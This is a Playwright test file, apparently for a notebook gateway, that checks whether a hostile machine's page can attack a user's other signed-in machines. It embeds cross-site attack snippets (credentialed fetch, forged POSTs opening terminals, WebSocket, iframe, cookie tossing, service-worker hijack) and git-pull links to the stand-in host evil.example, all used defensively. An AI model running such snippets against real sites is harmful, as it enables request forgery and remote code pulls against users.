"""What a hostile machine can try from its own page, in a real browser whose owner is signed in everywhere.

Each attack has a control: the same code from a page of the attacked host itself does arrive, so that a refusal
here means the gateway's rules and not a mistake in the attack.
"""

from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Page, expect
from pytest_django.live_server_helper import LiveServer

from instances.models import Instance
from tests.conftest import Cast
from tests.gateway.conftest import Gateway, new_instance, sign_in, started_machine
from tests.gateway.fake_machine import FakeMachine
from tests.gateway.stage import plant_sign_in

pytestmark = [pytest.mark.browser, pytest.mark.slow]

READ_PORTAL = """async (url) => {
  try { return await (await fetch(url, {credentials: "include"})).text(); } catch (error) { return "refused"; }
}"""
POST = """async (url) => {
  try { await fetch(url, {method: "POST", mode: "no-cors", credentials: "include", body: "{}"}); } catch { }
}"""
FORM = """async (url) => {
  const frame = document.createElement("iframe");
  frame.name = "sink";
  document.body.append(frame);
  const form = document.createElement("form");
  Object.assign(form, {method: "POST", action: url, target: "sink"});
  document.body.append(form);
  const done = new Promise((resolve) => { frame.onload = resolve; setTimeout(resolve, 3000); });
  form.submit();
  await done;
}"""
SOCKET = """(url) => new Promise((resolve) => {
  const socket = new WebSocket(url);
  socket.onopen = () => resolve("open");
  socket.onerror = () => resolve("refused");
})"""
IMAGE = """(url) => new Promise((resolve) => {
  const image = new Image();
  image.onload = image.onerror = resolve;
  image.src = url;
})"""
FRAME = """(url) => new Promise((resolve) => {
  const frame = document.createElement("iframe");
  frame.onload = resolve;
  frame.src = url;
  document.body.append(frame);
})"""
SERVICE_WORKER = """async (scope) => {
  try { await navigator.serviceWorker.register("/worker.js", {scope}); return "registered"; }
  catch (error) { return error.name; }
}"""


@pytest.fixture
def hostile() -> Iterator[FakeMachine]:
    with started_machine() as machine:
        machine.pages["/lab"] = ("<body>mine now</body>", {"Set-Cookie": "toss=1; Domain=nb.localhost"})
        yield machine


class Stage:
    """One person with a notebook of their own, and a second machine that somebody hostile has root on.

    The worst case: both are the person's, so that the browser has a good grant for each.
    """

    def __init__(self, browser: Browser, portal: str, gateway: Gateway, victim: Instance, hostile: Instance) -> None:
        self.portal, self.victim, self.hostile = portal, gateway.origin(victim.slug), gateway.origin(hostile.slug)
        self.context = browser.new_context()
        assert victim.owner.user
        plant_sign_in(self.context, portal, sign_in(victim.owner.user))
        self.own_page = self.open(victim)
        self.page = self.open(hostile)

    def open(self, instance: Instance) -> Page:
        page = self.context.new_page()
        answer = page.goto(f"{self.portal}/machines/{instance.slug}/notebook")
        assert answer
        assert answer.status == 200
        return page


@pytest.fixture
def stage(
    browser: Browser,
    live_server: LiveServer,
    gateway: Gateway,
    instance: Instance,
    machine: FakeMachine,
    hostile: FakeMachine,
    cast: Cast,
) -> Iterator[Stage]:
    machine.pages["/lab"] = ("<body>the notebook</body>", {})
    found = Stage(browser, live_server.url, gateway, instance, new_instance(cast.student, hostile.address))
    machine.asked.clear()
    yield found
    found.context.close()


def test_the_portal_is_out_of_reach(stage: Stage) -> None:
    assert stage.page.evaluate(READ_PORTAL, stage.portal + "/accounts/login/") == "refused"
    own = stage.context.new_page()
    own.goto(stage.portal + "/accounts/login/", wait_until="commit")
    assert "<html" in own.evaluate(READ_PORTAL, stage.portal + "/accounts/login/")  # the control


@pytest.mark.parametrize("attack", [POST, FORM])
def test_no_terminal_can_be_opened_on_another_machine(stage: Stage, machine: FakeMachine, attack: str) -> None:
    stage.page.evaluate(attack, stage.victim + "/api/terminals")
    assert machine.asked == []
    stage.own_page.evaluate(attack, stage.victim + "/api/terminals")
    assert machine.asked == ["POST /api/terminals"]


def test_no_websocket_can_be_opened_to_another_machine(stage: Stage, machine: FakeMachine) -> None:
    url = stage.victim.replace("http:", "ws:") + "/ws"
    assert stage.page.evaluate(SOCKET, url) == "refused"
    assert machine.asked == []
    assert stage.own_page.evaluate(SOCKET, url) == "open"


@pytest.mark.parametrize("attack", [IMAGE, FRAME])
def test_nothing_of_another_machine_can_be_loaded_into_a_page(stage: Stage, machine: FakeMachine, attack: str) -> None:
    stage.page.evaluate(attack, stage.victim + "/files/secret")
    assert machine.asked == []
    stage.own_page.evaluate(attack, stage.victim + "/files/secret")
    assert machine.asked == ["GET /files/secret"]


def test_a_window_that_was_opened_cannot_be_steered(stage: Stage) -> None:
    with stage.context.expect_page() as opened:
        stage.page.evaluate("(url) => { window.victim = window.open(url); }", stage.victim + "/lab")
    opened.value.wait_for_load_state()
    assert opened.value.locator("body").inner_text() == "the notebook"
    assert stage.page.evaluate("window.victim.closed")  # the handle is dead: the window itself is open
    assert not opened.value.is_closed()
    assert opened.value.evaluate("window.opener") is None


PULLS = ["/git-pull?repo=https://evil.example/x", "/git-sync?repo=https://evil.example/x", "/lab/../interact?repo=x"]


@pytest.mark.parametrize("path", PULLS)
def test_no_link_elsewhere_makes_another_machine_pull(stage: Stage, machine: FakeMachine, path: str) -> None:
    with stage.context.expect_page() as opened:
        stage.page.evaluate("(url) => { window.open(url); }", stage.victim + path)
    expect(opened.value.get_by_role("heading")).to_have_text("This link opens nothing")
    assert machine.asked == []
    stage.own_page.evaluate("(path) => { location.href = path; }", path)
    stage.own_page.wait_for_url(lambda url: "repo=" in url)
    assert f"GET {path.replace('/lab/..', '')}" in machine.asked


def test_a_page_that_waits_for_a_machine_does_not_pull_once_it_is_there(stage: Stage, machine: FakeMachine) -> None:
    """It opens its own address again, and then a page of the attacked host itself asks."""
    machine.stop()
    waits, pulls = stage.context.new_page(), stage.context.new_page()
    waits.goto(stage.hostile + "/page")
    pulls.goto(stage.hostile + "/page")
    waits.evaluate("(url) => { location.href = url; }", stage.victim + "/lab/tree/x")
    pulls.evaluate("(url) => { location.href = url; }", stage.victim + PULLS[0])
    expect(waits.get_by_role("heading")).to_have_text("JupyterLab is starting")
    expect(pulls.get_by_role("heading")).to_have_text("This link opens nothing")
    machine.start()
    expect(waits.get_by_role("heading")).to_have_count(0, timeout=20_000)
    pulls.reload()
    expect(pulls.get_by_role("heading")).to_have_text("This link opens nothing")
    assert not [asked for asked in machine.asked if "evil" in asked]


def test_cookies_tossed_to_every_machine_change_nothing(stage: Stage, machine: FakeMachine) -> None:
    names = {(c["name"], c["domain"]) for c in stage.context.cookies()}
    assert not any(domain.startswith(".") for _name, domain in names)  # by header: dropped on the way
    toss = "document.cookie = 'nb_grant=tossed; domain=nb.localhost; path=/api'"
    stage.page.evaluate(toss)  # by script: the browser takes it, and sends it first
    assert ("nb_grant", ".nb.localhost") in {(c["name"], c["domain"]) for c in stage.context.cookies()}
    assert stage.own_page.evaluate("async () => (await fetch('/api/contents')).status") == 200
    assert machine.asked == ["GET /api/contents"]


def test_the_grant_cannot_be_read_by_the_page_nor_by_the_machine(stage: Stage) -> None:
    [grant] = [c for c in stage.context.cookies(stage.hostile) if c["name"] == "nb_grant"]
    assert "nb_grant" not in stage.page.evaluate("document.cookie")
    assert grant["value"] not in stage.page.evaluate("async () => (await fetch('/echo')).text()")


def test_a_service_worker_stays_on_its_own_host(stage: Stage, hostile: FakeMachine, machine: FakeMachine) -> None:
    worker = "self.addEventListener('fetch', (event) => event.respondWith(new Response('hijacked')));"
    hostile.pages["/worker.js"] = (worker, {"Content-Type": "text/javascript", "Service-Worker-Allowed": "/"})
    assert stage.page.evaluate(SERVICE_WORKER, "/") == "registered"  # the control: it can hijack itself
    assert stage.page.evaluate(SERVICE_WORKER, stage.victim + "/") == "SecurityError"
    stage.own_page.reload()
    assert stage.own_page.locator("body").inner_text() == "the notebook"


def test_a_machine_cannot_sign_people_out_of_the_others(stage: Stage, hostile: FakeMachine) -> None:
    hostile.pages["/wipe"] = ("wiped", {"Clear-Site-Data": '"cookies", "storage"'})
    stage.page.goto(stage.hostile + "/wipe")
    assert {c["name"] for c in stage.context.cookies(stage.victim)} >= {"nb_grant"}
    assert stage.own_page.evaluate("async () => (await fetch('/api/contents')).status") == 200
